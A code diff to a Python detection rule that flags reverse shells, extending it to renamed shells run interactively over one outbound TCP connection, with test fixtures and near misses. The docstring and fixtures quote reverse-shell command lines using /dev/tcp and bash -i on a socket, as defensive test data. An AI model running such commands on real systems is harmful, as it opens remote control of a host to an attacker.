@@ -1,14 +1,35 @@
-"""Execution:Runtime/ReverseShell: a shell whose stdin or stdout is a network socket."""
+"""Execution:Runtime/ReverseShell: a shell whose stdin or stdout is a network socket.
+
+Also any program started interactive (``-i``) whose stdin and stdout are one outbound TCP
+connection (the same socket, from an ephemeral local port): a renamed copy of a shell, as the
+GuardDuty tester runs (``cp /bin/bash <date>-reverseShell; ./<copy> -i >& /dev/tcp/...``), is a
+shell by content, not by name. The commands run inside a reverse shell inherit its socket, but not
+``-i`` (``id`` is not a second reverse shell). A service started by inetd or systemd on an accepted
+connection has its stdio on a socket too, but on its listening port, not an ephemeral one.
+"""
 
 from __future__ import annotations
 
-from typing import Any, ClassVar
+from typing import Any, ClassVar, Final
 
 from vigil import sample as s
 from vigil import severity
 from vigil.detection import Context, Detection, Example, Meta
-from vigil.events import ProcessActivity
-from vigil.vocab import INTERPRETER_NAMES, SHELL_NAMES, base_name, is_network_socket, is_shell
+from vigil.events import Endpoint, ProcessActivity, Stdio
+from vigil.vocab import INTERPRETER_NAMES, base_name, interactive_shell_flag, is_network_socket, is_shell
+
+EPHEMERAL_PORTS: Final = range(32768, 65536)  # Linux's default ip_local_port_range and above
+
+
+def _one_outbound_connection(a: Stdio | None, b: Stdio | None) -> bool:
+    """fds ``a`` and ``b`` are the same TCP connection, made from this host (an ephemeral local port)."""
+    if a is None or b is None or not (is_network_socket(a) and is_network_socket(b)):
+        return False
+    if a.protocol != "tcp" or b.protocol != "tcp" or a.remote is None or a.local is None:
+        return False
+    if a.path and b.path and a.path != b.path:  # socket:[inode] when the agent knows it
+        return False
+    return a.remote == b.remote and a.local == b.local and a.local.port in EPHEMERAL_PORTS
 
 
 class ReverseShell(Detection):
@@ -32,15 +53,21 @@ class ReverseShell(Detection):
         maturity="stable",
     )
     kinds = frozenset({"process_exec"})
-    programs = SHELL_NAMES | INTERPRETER_NAMES  # is_shell (versions stripped) or an interpreter
+    # no program prefilter: a renamed shell counts (see the module docstring)
 
     def match(self, event: ProcessActivity, ctx: Context) -> bool:
         p = event.process
         if not (is_network_socket(p.stdin) or is_network_socket(p.stdout)):
             return False
         # an interpreter only counts when both directions are on the socket (a pty.spawn one-liner)
-        return is_shell(p) or (
-            base_name(p) in INTERPRETER_NAMES and is_network_socket(p.stdin) and is_network_socket(p.stdout)
+        return (
+            is_shell(p)
+            or (
+                base_name(p) in INTERPRETER_NAMES
+                and is_network_socket(p.stdin)
+                and is_network_socket(p.stdout)
+            )
+            or (interactive_shell_flag(p) and _one_outbound_connection(p.stdin, p.stdout))
         )
 
     def _peer(self, event: ProcessActivity) -> Any:
@@ -59,7 +86,28 @@ class ReverseShell(Detection):
         proto = 17 if fd is not None and fd.protocol == "udp" else 6
         return {"addressFamily": family, "ianaProtocolNumber": proto}
 
+    _OUT: ClassVar = Stdio(
+        type="socket",
+        family="inet",
+        protocol="tcp",
+        path="socket:[9901]",
+        local=Endpoint(ip="127.0.0.1", port=45810),
+        remote=Endpoint(ip="127.0.0.1", port=1337),
+    )
+    _ACCEPTED: ClassVar = Stdio(
+        type="socket",
+        family="inet",
+        protocol="tcp",
+        path="socket:[9902]",
+        local=Endpoint(ip="10.0.0.12", port=873),
+        remote=Endpoint(ip="198.51.100.20", port=51544),
+    )
     fires: ClassVar = (
+        Example(
+            "the GuardDuty tester's renamed bash copy, -i on one outbound connection",
+            (s.exec_(s.proc("/root/1764000000-reverseShell", "-i", stdin=_OUT, stdout=_OUT, stderr=_OUT,
+                            parent=s.proc("/root/1764000000-reverseShell", "-c", "./1764000000-reverseShell -i >& /dev/tcp/127.0.0.1/1337 0>&1", pid=800, uid=0))),),
+        ),
         Example(
             "bash -i with stdin/stdout on a TCP socket, spawned by a web server",
             (s.exec_(s.proc("/bin/bash", "-i", stdin=s.sock("198.51.100.7", 4444), stdout=s.sock("198.51.100.7", 4444),
@@ -76,6 +124,34 @@ class ReverseShell(Detection):
         ),
     )  # fmt: skip
     near_misses: ClassVar = (
+        Example(
+            "a command run inside a reverse shell (it inherits the socket, not -i)",
+            (
+                s.exec_(
+                    s.proc(
+                        "/usr/bin/id",
+                        stdin=_OUT,
+                        stdout=_OUT,
+                        stderr=_OUT,
+                        parent=s.proc("/usr/bin/bash", "-i", pid=900, uid=33),
+                    )
+                ),
+            ),
+        ),
+        Example(
+            "an inetd-style service with its stdio on an accepted connection (its listening port)",
+            (
+                s.exec_(
+                    s.proc(
+                        "/usr/bin/rsync",
+                        "--daemon",
+                        stdin=_ACCEPTED,
+                        stdout=_ACCEPTED,
+                        parent=s.proc("/usr/sbin/xinetd", pid=700, uid=0),
+                    )
+                ),
+            ),
+        ),
         Example(
             "interactive bash on a terminal (ssh login)", (s.exec_(s.proc("/bin/bash", "-i", parent=s.SSHD)),)
         ),
